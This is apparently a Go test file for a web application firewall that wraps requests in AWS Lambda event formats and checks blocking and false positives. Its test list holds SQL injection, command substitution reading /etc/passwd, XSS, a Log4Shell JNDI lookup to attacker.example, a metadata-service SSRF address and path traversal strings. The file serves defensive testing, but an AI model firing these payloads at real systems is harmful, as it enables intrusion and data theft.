package inspect

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"weir/inspect/source"
)

// wire is a request as a source of AWS writes it.
type wire struct {
	path, parameter string // as the client sent the path, and the decoded parameter at its end
	query           string
	headers         map[string]string
	cookies         []string
}

// httpSources are the sources of requests, and how each writes one.
var httpSources = []struct {
	name          string
	decodesPath   bool // the path in the event is decoded
	hasParameters bool
	event         func(w wire) any
}{
	{"rest-v1", false, true, func(w wire) any {
		return map[string]any{
			"resource": "/users/{id}", "path": w.path, "httpMethod": "GET", "headers": w.all(), "multiValueHeaders": lists(w.all()),
			"queryStringParameters": nil, "multiValueQueryStringParameters": nil, "pathParameters": map[string]string{"id": w.parameter},
			"stageVariables": nil, "requestContext": map[string]any{
				"resourceId": "abc", "resourcePath": "/users/{id}", "httpMethod": "GET", "path": "/prod" + w.path, "stage": "prod",
				"protocol": "HTTP/1.1", "identity": map[string]any{"sourceIp": "192.0.2.1"}, "apiId": "abc123",
			}, "body": nil, "isBase64Encoded": false,
		}
	}},
	{"http-v1", true, true, func(w wire) any {
		return map[string]any{
			"version": "1.0", "resource": "/users/{id}", "path": w.decoded(), "httpMethod": "GET", "headers": w.all(),
			"multiValueHeaders": lists(w.all()), "queryStringParameters": nil, "multiValueQueryStringParameters": nil,
			"pathParameters": map[string]string{"id": w.parameter}, "requestContext": map[string]any{
				"httpMethod": "GET", "path": w.decoded(), "stage": "$default", "protocol": "HTTP/1.1",
				"identity": map[string]any{"sourceIp": "192.0.2.1"}, "apiId": "abc123",
			}, "body": nil, "isBase64Encoded": false,
		}
	}},
	{"http-v2", true, true, func(w wire) any { return w.two("abc123.execute-api.eu-west-1.amazonaws.com", w.decoded(), true) }},
	{"function-url", false, false, func(w wire) any { return w.two("abc123.lambda-url.eu-west-1.on.aws", w.path, false) }},
	{"alb", false, false, func(w wire) any {
		return map[string]any{
			"requestContext": map[string]any{"elb": map[string]string{"targetGroupArn": "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/a/b"}},
			"httpMethod":     "GET", "path": w.path, "queryStringParameters": map[string]string{}, "headers": w.all(), "body": "", "isBase64Encoded": false,
		}
	}},
	{"lattice-v1", false, false, func(w wire) any {
		return map[string]any{
			"raw_path": w.path, "method": "GET", "headers": w.all(), "query_string_parameters": map[string]string{}, "body": "", "is_base64_encoded": false,
		}
	}},
	{"lattice-v2", false, false, func(w wire) any {
		return map[string]any{
			"version": "2.0", "path": w.path, "method": "GET", "headers": lists(w.all()), "queryStringParameters": map[string]any{},
			"requestContext": map[string]any{"serviceArn": "arn:aws:vpc-lattice:eu-west-1:123456789012:service/svc-0"}, "isBase64Encoded": false,
		}
	}},
	{"lambda-edge", false, false, func(w wire) any {
		headers := map[string]any{}
		for name, value := range w.all() {
			headers[strings.ToLower(name)] = []any{map[string]string{"key": name, "value": value}}
		}
		return map[string]any{"Records": []any{map[string]any{"cf": map[string]any{
			"config":  map[string]string{"eventType": "viewer-request"},
			"request": map[string]any{"clientIp": "192.0.2.1", "method": "GET", "uri": w.path, "querystring": "", "headers": headers},
		}}}}
	}},
}

// two is payload format 2.0.
func (w wire) two(domain, path string, parameters bool) any {
	event := map[string]any{
		"version": "2.0", "routeKey": "$default", "rawPath": path, "rawQueryString": w.query, "headers": w.headers, "cookies": w.cookies,
		"requestContext": map[string]any{
			"domainName": domain, "stage": "$default", "apiId": "abc123",
			"http": map[string]string{"method": "GET", "path": path, "protocol": "HTTP/1.1", "sourceIp": "192.0.2.1"},
		}, "isBase64Encoded": false,
	}
	if parameters {
		event["pathParameters"] = map[string]string{"id": w.parameter}
	}
	return event
}

func (w wire) decoded() string {
	if path, err := url.PathUnescape(w.path); err == nil {
		return path
	}
	return w.path
}

// all are the headers with the cookies among them.
func (w wire) all() map[string]string {
	all := map[string]string{}
	for name, value := range w.headers {
		all[name] = value
	}
	if len(w.cookies) > 0 {
		all["Cookie"] = strings.Join(w.cookies, "; ")
	}
	return all
}

func lists(headers map[string]string) map[string][]string {
	out := map[string][]string{}
	for name, value := range headers {
		out[name] = []string{value}
	}
	return out
}

// partAttacks are found in a query today.
var partAttacks = []string{
	`1' or 1=1-- `, `1 or 1=1-- `, `1'or(1)=(1)or'`, `1' union select password from users-- `, `1;drop table users--`,
	`$(cat /etc/passwd)`, "`cat /etc/passwd`", `<script>alert(1)</script>`, `${jndi:ldap://attacker.example/a}`,
	`http://169.254.169.254/latest/meta-data/`, `../../../../etc/passwd`,
}

// chrome are the headers of a browser, as front ends hand them on.
func chrome() map[string]string {
	return map[string]string{
		"Host": "shop.example.com", "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
		"Accept-Encoding": "gzip, deflate, br, zstd", "Accept-Language": "en-GB,en;q=0.9,de-AT;q=0.8", "Cache-Control": "max-age=0",
		"If-None-Match": `W/"33a64df551425fcc55e4d42a148795d9f25f89d4"`, "If-Modified-Since": "Thu, 04 Jul 2024 17:40:51 GMT",
		"Priority": "u=0, i", "Referer": "https://www.google.com/search?q=garden+chairs&sca_esv=3f2a", "Origin": "https://shop.example.com",
		"Sec-Ch-Ua": `"Not)A;Brand";v="8", "Chromium";v="138", "Google Chrome";v="138"`, "Sec-Ch-Ua-Mobile": "?0", "Sec-Ch-Ua-Platform": `"Windows"`,
		"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-User": "?1", "Dnt": "1",
		"Upgrade-Insecure-Requests": "1", "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
		"Via": "2.0 3f1cb5a2b3c4d5e6f7a8b9c0d1e2f3a4.cloudfront.net (CloudFront)", "X-Amz-Cf-Id": "k2Yz9Ff-LrsYoFkGy8CqhV3v2sX5qwIJX1iEeB1QKXk5qfF1hO9nRA==",
		"X-Amzn-Trace-Id": "Root=1-67891233-abcdef012345678912345678", "X-Forwarded-For": "203.0.113.7, 130.176.1.2", "X-Forwarded-Port": "443",
		"X-Forwarded-Proto": "https", "Traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
	}
}

func blocks(t *testing.T, i *Inspector, event any) (Verdict, bool) {
	t.Helper()
	text, err := json.Marshal(event)
	if err != nil {
		t.Fatal(err)
	}
	v, _ := i.Inspect(t.Context(), source.Invocation{ID: "1", Payload: text})
	if v.Fault != "" {
		t.Fatalf("fault %s", v.Fault)
	}
	return v, v.Action == Block
}

func TestAttacksInPartsOfARequestAreFoundAsInAQuery(t *testing.T) {
	i := inspectorFor(t, patient())
	for _, a := range partAttacks {
		base := wire{path: "/users/7", parameter: "7", headers: map[string]string{"host": "shop.example.com", "accept": "*/*"}}
		control := base
		control.query = "q=" + url.QueryEscape(a)
		if _, is := blocks(t, i, control.two("abc123.lambda-url.eu-west-1.on.aws", "/users", false)); !is {
			t.Fatalf("%q is not found in a query", a)
		}
		for _, s := range httpSources {
			for place, w := range placed(base, a) {
				v, is := blocks(t, i, s.event(w))
				if v.Source != s.name {
					t.Fatalf("%s is taken for %s", s.name, v.Source)
				}
				if !is {
					t.Errorf("%s: %q in %s passes: %+v", s.name, a, place, v.Matches)
				}
			}
		}
	}
}

// placed are requests with an attack in one place each.
func placed(base wire, attack string) map[string]wire {
	with := func(change func(*wire)) wire {
		w := base
		w.headers = map[string]string{}
		for name, value := range base.headers {
			w.headers[name] = value
		}
		change(&w)
		return w
	}
	out := map[string]wire{}
	escaped := url.PathEscape(attack)
	out["the last segment"] = with(func(w *wire) { w.path, w.parameter = "/users/"+escaped, attack })
	out["the last segment, escaped twice"] = with(func(w *wire) { w.path, w.parameter = "/users/"+url.PathEscape(escaped), escaped })
	out["a segment in the middle"] = with(func(w *wire) { w.path = "/users/" + escaped + "/orders" })
	for _, name := range []string{
		"X-Api-Key", "Host", "X-Forwarded-For", "Origin", "X-Tenant", "User-Agent", "Accept", "Accept-Language", "Content-Type", "Cache-Control",
		"If-None-Match", "If-Modified-Since", "Range", "Sec-Ch-Ua", "X-Amzn-Trace-Id", "Traceparent", "X-Forwarded-Host", "Via", "Priority", "Te",
	} {
		out["header "+name] = with(func(w *wire) {
			for old := range w.headers {
				if strings.EqualFold(old, name) {
					delete(w.headers, old)
				}
			}
			w.headers[name] = attack
		})
	}
	out["a bearer token"] = with(func(w *wire) { w.headers["Authorization"] = "Bearer " + attack })
	out["a token"] = with(func(w *wire) { w.headers["Authorization"] = attack })
	out["the name of a header"] = with(func(w *wire) { w.headers[attack] = "1" })
	if !strings.Contains(attack, ";") {
		out["a cookie"] = with(func(w *wire) { w.cookies = []string{"a=1", "sid=" + attack} })
	}
	out["an escaped cookie"] = with(func(w *wire) { w.cookies = []string{"a=1", "sid=" + url.QueryEscape(attack), "b=2"} })
	return out
}

func TestRequestsOfBrowsersPassWithAllTheirHeaders(t *testing.T) {
	i := inspectorFor(t, patient())
	for _, s := range httpSources {
		for _, more := range []map[string]string{
			{},
			{"X-Api-Key": "da2-abcdefghijklmnopqrstuvwxyz", "Authorization": "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJ0b20ifQ.c2lnbmF0dXJl"},
			{"User-Agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/466.1;FBLC/de_AT]"},
			{"User-Agent": "aws-sdk-js/3.600.0 ua/2.0 os/linux#5.10.218 lang/js md/nodejs#20.11.1 api/s3#3.600.0"},
			{"User-Agent": "Amazon CloudFront"},
			{"User-Agent": "My%20App/42 CFNetwork/1496.0.7 Darwin/23.5.0"},
			{"Origin": "null"},
			{"Range": "bytes=0-1023, 4096-"},
			{"Content-Type": "multipart/form-data; boundary=----WebKitFormBoundary2H95SM3VIgzu2Iyi"},
			{"If-Match": `"a1:0", "b2-gzip"`},
			{"Tracestate": "1987495@nr=0-1-1967087-555779997-0f17da3f390e166d----1720523396342", "Baggage": "sentry-environment=production,sentry-release=commerce%403.0.0"},
			{"X-Forwarded-For": "2001:db8::1, 203.0.113.7:52114", "Forwarded": `for="[2001:db8::1]:4711";proto=https`},
		} {
			w := wire{path: "/users/anna%20huber/o'brien/7", parameter: "7", headers: chrome(), cookies: []string{
				"_ga=GA1.2.1186312345.1720024695", `prefs=%7B%22theme%22%3A%22dark%22%7D`, "sid=s%3Aj%3A%7B%22id%22%3A7%7D.PQ4tZ9k", `name="Anna\054 Huber"`,
			}}
			for name, value := range more {
				w.headers[name] = value
			}
			if v, _ := blocks(t, i, s.event(w)); v.Score > 0 {
				t.Errorf("%s with %v: %+v", s.name, more, v.Matches)
			}
		}
	}
}

func TestAMatchInAPartCountsOnce(t *testing.T) {
	i := inspectorFor(t, patient())
	for name, w := range map[string]wire{
		"cookie":  {path: "/", cookies: []string{`sid=1' or 1=1-- `}},
		"path":    {path: "/a/<script>alert(1)</script>/b"},
		"header":  {path: "/", headers: map[string]string{"User-Agent": `${jndi:ldap://attacker.example/a}`}},
		"referer": {path: "/", headers: map[string]string{"Referer": `https://x.example/?q=<script>alert(1)</script>`}},
	} {
		v, _ := blocks(t, i, w.two("abc123.lambda-url.eu-west-1.on.aws", w.path, false))
		seen := map[string]int{}
		for _, m := range v.Matches {
			if seen[fmt.Sprint(m.Rule, m.Field)]++; seen[fmt.Sprint(m.Rule, m.Field)] > 1 && m.Field != "path" {
				t.Errorf("%s: %d counts twice in %s", name, m.Rule, m.Field)
			}
		}
		if len(v.Matches) == 0 {
			t.Errorf("%s: nothing is found", name)
		}
	}
}

func TestWhatIsExcludedForAPartHoldsForItsValues(t *testing.T) {
	for _, c := range []struct {
		field string
		w     wire
	}{
		{"headers.x-api-key", wire{path: "/", headers: map[string]string{"X-Api-Key": `1' or 1=1-- `}}},
		{"headers.x-api-key", wire{path: "/", headers: map[string]string{"X-Api-Key": `1%27%20or%201=1--%20`}}},
		{"path", wire{path: "/users/1'or(1)=(1)or'/x"}},
		{"cookies.Sid", wire{path: "/", cookies: []string{`Sid=1' or 1=1-- `}}},
	} {
		event := c.w.two("abc123.lambda-url.eu-west-1.on.aws", c.w.path, false)
		v, is := blocks(t, inspectorFor(t, patient()), event)
		if !is {
			t.Errorf("%s is not found", c.field)
		}
		for _, m := range v.Matches {
			if m.Field != c.field && m.Via == "" {
				t.Errorf("%d is found in %s, not in %s", m.Rule, m.Field, c.field)
			}
		}
		options := patient()
		for _, m := range v.Matches {
			options.Exclude = append(options.Exclude, Exclusion{Rule: m.Rule, Field: c.field})
		}
		if v, _ := blocks(t, inspectorFor(t, options), event); v.Score > 0 {
			t.Errorf("%s: %+v", c.field, v.Matches)
		}
	}
}

func TestWhatIsRememberedOfPartsHidesNothing(t *testing.T) {
	i := inspectorFor(t, patient())
	w := wire{path: "/users/anna huber", headers: chrome(), cookies: []string{"theme=dark blue"}}
	for range 3 {
		if v, _ := blocks(t, i, w.two("abc123.lambda-url.eu-west-1.on.aws", w.path, false)); v.Score > 0 {
			t.Fatalf("%+v", v.Matches)
		}
	}
	for range 3 { // and what is found is not remembered as clean
		for place, w := range placed(w, `1' or 1=1-- `) {
			if _, is := blocks(t, i, w.two("abc123.lambda-url.eu-west-1.on.aws", w.path, false)); !is {
				t.Errorf("%s passes", place)
			}
		}
	}
}

// A browser comes from other sites: rule 931130 calls any address of theirs an inclusion where it judges arguments.
func TestAddressesOfOtherSitesStandInTheirHeadersAtLevel2(t *testing.T) {
	options := patient()
	options.Paranoia = 2
	i := inspectorFor(t, options)
	for _, s := range httpSources {
		if s.name == "lambda-edge" {
			continue // its headers are judged as any values: no function behind Weir gets such an event
		}
		for name, honest := range map[string]string{"Referer": "https://www.google.com/", "Origin": "https://app.example.org"} {
			with := func(name, value string) any {
				return s.event(wire{path: "/users", headers: map[string]string{
					"Host": "shop.example.com", "Accept": "*/*", "User-Agent": chrome()["User-Agent"], name: value,
				}})
			}
			if v, _ := blocks(t, i, with(name, honest)); v.Score > 0 {
				t.Errorf("%s: %s: %+v", s.name, name, v.Matches)
			}
			if _, is := blocks(t, i, with(name, honest+`?q=<script>alert(1)</script>`)); !is {
				t.Errorf("%s: an attack in %s passes", s.name, name)
			}
			if v, is := blocks(t, i, with("X-Template", honest)); !is {
				t.Errorf("%s: an inclusion passes: %+v", s.name, v.Matches)
			}
		}
	}
}
